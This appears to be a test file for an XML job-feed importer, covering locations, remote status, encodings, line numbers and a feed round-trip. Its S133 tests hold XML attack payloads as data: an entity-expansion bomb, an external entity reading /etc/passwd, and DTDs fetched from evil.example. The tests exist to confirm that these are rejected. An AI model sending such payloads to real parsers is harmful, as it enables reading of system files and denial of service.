import { IMPORT_ROW_MAX } from '@market/contracts/job-posts';
import type { PublicJob } from '@market/contracts/job-posts';
import { presentBoardFeed } from '../src/public/present/present-board-feed';
import { fileContent } from '../src/imports/domain/file-content';
import { readImport, type ReadRow } from '../src/imports/domain/read-import';
import { XML_FEEDS } from './import-samples';

async function jobsIn(content: string) {
  const { columns, batches, problem } = await readImport({ content, format: 'xml' });
  const rows = [...batches].flat();
  const jobs = rows.filter((row): row is ReadRow => 'job' in row);
  return {
    columns,
    problem,
    lines: jobs.map(({ line }) => line),
    jobs: jobs.map(({ job }) => job),
    refused: rows.filter((row) => 'reason' in row),
  };
}

describe('an XML feed', () => {
  test.each(XML_FEEDS)('a feed of %s is read', async (_system, xml, job, words) => {
    const { jobs, refused } = await jobsIn(xml);
    expect(refused).toEqual([]);
    expect(jobs).toMatchObject([job]);
    for (const word of words) expect(jobs[0]?.job_description).toContain(word);
    expect(jobs[0]?.job_description).not.toMatch(/CDATA|&amp;(?:uuml|lt);/);
  });

  test.each([
    ['one place', '<city>Paris</city><state>Texas</state><country>US</country>', 'Paris, Texas, US'],
    [
      'several places',
      '<city>Paris</city><country>US</country></location><location><city>Lyon</city><country>FR</country>',
      'Paris, US; Lyon, FR',
    ],
    [
      'a postal code before the town',
      '<name>HQ</name><zip>75001</zip><city>Paris</city><country>FR</country>',
      'Paris, FR',
    ],
  ])('has %s in nested elements', async (_what, place, said) => {
    const job = (location: string) =>
      `<job><title>Keeper</title><locations><location>${location}</location></locations></job>`;
    const { jobs } = await jobsIn(`<jobs>${job(place)}</jobs>`);
    expect(jobs.map(({ job_location }) => job_location)).toEqual([said]);
    const mixed = await jobsIn(`<jobs>${job('<city>A</city></location><location><city>B</city>')}${job(place)}</jobs>`);
    expect(mixed.jobs.map(({ job_location }) => job_location)).toEqual(['A; B', said]);
  });

  test.each([
    ['fully', 'remote'],
    ['hybrid', 'hybrid'],
    ['none', null],
  ])('has the remote status %s', async (status, mode) => {
    const item = `<item><title>Keeper</title><remoteStatus>${status}</remoteStatus><tt:locations><tt:location><tt:zip>1</tt:zip><tt:city>Oslo</tt:city></tt:location></tt:locations></item>`;
    const { jobs } = await jobsIn(`<rss xmlns:tt="https://teamtailor.com/locations"><channel>${item}</channel></rss>`);
    expect(jobs).toMatchObject([{ work_mode: mode, job_location: 'Oslo' }]);
  });

  test.each(['row', 'record'])('has its jobs in elements of a database: %s', async (name) => {
    const job = `<${name}><title>Keeper</title><city>Oslo</city></${name}>`;
    const { jobs } = await jobsIn(`<${name}s>${job}${job}</${name}s>`);
    expect(jobs).toMatchObject([{ job_title: 'Keeper', job_location: 'Oslo' }, { job_title: 'Keeper' }]);
    await expect(jobsIn(`<${name}s></${name}s>`)).rejects.toMatchObject({
      fields: { content: 'The file has no rows' },
    });
  });

  test('says the line of each job, and ids keep jobs apart', async () => {
    const { lines, jobs } = await jobsIn(
      '<jobs>\n<job><id>1</id><title>A keeper</title></job>\n\n<job><id>2</id><title>A keeper</title></job></jobs>',
    );
    expect(lines).toEqual([2, 4]);
    expect(new Set(jobs.map(({ row_key }) => row_key)).size).toBe(2);
  });

  test('is recognised by its name or beginning, in the encoding that it states', () => {
    const xml = '<?xml version="1.0" encoding="ISO-8859-2"?><jobs><job><title>Zażółć</title></job></jobs>';
    const bytes = Buffer.from(xml.replace('Zażółć', '@'), 'latin1');
    const latin2 = Buffer.concat([
      bytes.subarray(0, bytes.indexOf('@')),
      Buffer.from([0x5a, 0x61, 0xbf, 0xf3, 0xb3, 0xe6]),
      bytes.subarray(bytes.indexOf('@') + 1),
    ]);
    expect(fileContent(latin2, 'feed')).toMatchObject({
      format: 'xml',
      content: xml,
      encoding: 'iso-8859-2',
      isSure: true,
    });
    expect(fileContent(Buffer.from('<jobs/>'), 'jobs')).toMatchObject({ format: 'xml' });
    expect(fileContent(Buffer.from('title\n<b>'), 'jobs.csv')).toMatchObject({ format: 'csv' });
  });

  const BOMB =
    '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><jobs><job><title>&b;</title></job></jobs>';
  const FILE = '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><jobs><job><title>&f;</title></job></jobs>';
  const PARAMETER =
    '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><jobs><job><title>x</title></job></jobs>';
  test.each([
    ['with entities of its own', BOMB, 'entities of its own'],
    ['with an entity that is a file', FILE, 'entities of its own'],
    ['with a parameter entity', PARAMETER, 'entities of its own'],
    ['without an end', '<jobs><job><title>Keeper</title></job>', 'not valid XML'],
    ['with tags that cross', '<jobs><job><title>Keeper</job></title></jobs>', 'not valid XML'],
    ['nested without end', '<a>'.repeat(100_000), 'nested too deeply'],
    ['without a job', '<ships><ship><name>Ann</name></ship></ships>', 'Elements: ships, ship, name'],
    ['that is a page', '<!DOCTYPE html><html><body><p>Moved</p></body></html>', 'web page'],
  ])('S133 %s is refused', async (_what, xml, says) => {
    await expect(jobsIn(xml)).rejects.toMatchObject({ fields: { content: expect.stringContaining(says) } });
  });

  test('S133 a document type from elsewhere is never loaded, and unknown entities stay as they are', async () => {
    const { jobs } = await jobsIn(
      '<!DOCTYPE rss PUBLIC "-//N//DTD RSS 0.91//EN" "https://evil.example/rss.dtd"><jobs><job><title>Caf&eacute; keeper &secret;</title></job></jobs>',
    );
    expect(jobs[0]?.job_title).toBe('Café keeper &secret;');
  });

  test('S133 a job that is longer or has more fields than any is refused alone', async () => {
    const fields = Array.from({ length: 300 }, (_, at) => `<f${String(at)}>x</f${String(at)}>`).join('');
    const { jobs, refused } = await jobsIn(
      `<jobs><job><title>Long</title><text>${'x'.repeat(IMPORT_ROW_MAX + 1)}</text></job><job>${fields}</job><job><title>Keeper</title></job></jobs>`,
    );
    expect(jobs.map(({ job_title }) => job_title)).toEqual(['Keeper']);
    expect(refused).toMatchObject([
      { reason: expect.stringContaining('longer') },
      { reason: expect.stringContaining('more than 200 fields') },
    ]);
  });
});

test('the file that this site gives job boards says the same when it is read again', async () => {
  const job: Partial<PublicJob> = {
    id: 'job-1',
    job_title: 'Harbour pilot',
    job_description: '<p>Bring <strong>ships</strong> in.</p>',
    job_location: 'Oslo, Norway',
    salary: '310',
    salary_max: '350',
    currency: 'NOK',
    salary_period: 'hour',
    emp_type: 'part_time',
    work_mode: 'hybrid',
    exp_min: 5,
    cate_desc: 'Transport',
    closes_at: '2030-05-31T23:59:59.999Z',
    cmp_name: 'Tide & Co',
    created_at: '2026-03-01T08:00:00.000Z',
    updated_at: '2026-03-01T08:00:00.000Z',
    url: 'https://jobs.example/job-details/job-1',
  };
  const place = { name: 'Oslo', region: 'Oslo', country: 'Norway' };
  // Fields that the file does not have stay out.
  const { jobs, refused } = await jobsIn(
    presentBoardFeed('https://jobs.example', [{ job: job as PublicJob, places: [place] }]),
  );
  expect(refused).toEqual([]);
  expect(jobs).toEqual([
    expect.objectContaining({
      job_title: 'Harbour pilot',
      job_location: expect.stringMatching(/^Oslo.*Norway$/),
      salary: 310,
      salary_max: 350,
      currency: 'NOK',
      salary_period: 'hour',
      emp_type: 'part_time',
      work_mode: 'hybrid',
      exp_min: 5,
      job_description: expect.stringContaining('<strong>ships</strong>'),
    }),
  ]);
});
